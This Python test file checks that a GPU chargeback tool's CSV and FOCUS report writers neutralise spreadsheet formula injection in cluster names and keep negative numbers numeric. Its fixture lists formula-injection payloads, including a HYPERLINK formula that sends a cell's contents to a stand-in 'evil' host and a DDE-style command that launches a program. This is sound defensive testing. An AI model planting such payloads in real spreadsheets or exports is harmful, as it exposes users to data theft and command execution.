"""Names from the cluster cannot become spreadsheet formulas in the CSV or FOCUS files,
and numbers (negative savings included) stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

import tests.support.report_fixtures as fx
from gpuledger.chargeback.ledger.store.sqlite import SqliteLedgerStore
from gpuledger.chargeback.ledger.tables import CoverageRow, UsageRow
from gpuledger.chargeback.report.build import build_report
from gpuledger.chargeback.report.model import Month, Report
from gpuledger.chargeback.report.ratecard import load_rate_card
from gpuledger.chargeback.report.writers.cells import neutralize
from gpuledger.chargeback.report.writers.csv_json import cell, lines_csv
from gpuledger.chargeback.report.writers.focus import focus_csv

HOSTILE = {
    ("=cmd", '=HYPERLINK("http://evil/?x="&A1,"click")'),
    ("+team", "+1+cmd|' /C calc'!A0"),
    ("-ops", "@SUM(A1:A9)"),
    ("fin", "-2+3"),
}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e-06", "-1e-06"),
        ("chat-llama", "chat-llama"),
        ("", ""),
    ],
)
def test_neutralize(text: str, cell: str) -> None:
    assert neutralize(text) == cell


def _report() -> Report:
    store = SqliteLedgerStore(":memory:")
    store.migrate()
    usage = [
        UsageRow(fx.OCT, "n1", f"GPU-{i}", ns, svc, fx.H100, "", 3600.0, 1800.0, 1.0e6)
        for i, (ns, svc) in enumerate(sorted(HOSTILE))
    ]
    cov = [CoverageRow(fx.OCT, "n1", f"GPU-{i}", fx.H100, 3600.0) for i in range(len(HOSTILE))]
    store.upsert(usage, cov)
    return build_report(store, load_rate_card(), Month.parse("2026-10"), now=fx.NOW)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _formula_like(value: str) -> bool:
    if not value.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


def test_no_cell_of_the_csv_or_focus_file_starts_a_formula() -> None:
    report = _report()
    for name, text in (("csv", lines_csv(report)), ("focus", focus_csv(report))):
        offenders = [v for row in _cells(text) for v in row if _formula_like(v)]
        assert offenders == [], name
    rows = {(r[1], r[2]): r for r in _cells(lines_csv(report))[1:]}
    for ns, svc in HOSTILE:
        want_ns = "'" + ns if ns[0] in "=+-@" else ns
        assert (want_ns, "'" + svc) in rows, sorted(rows)
    focus = "\n".join(",".join(r) for r in _cells(focus_csv(report)))
    assert "'=HYPERLINK" in focus


def test_negative_numbers_stay_numbers() -> None:
    assert cell(-3.5) == "-3.500000"
    assert cell("-3.5") == "-3.5"
    assert cell(("-x", "y")) == "'-x;y"
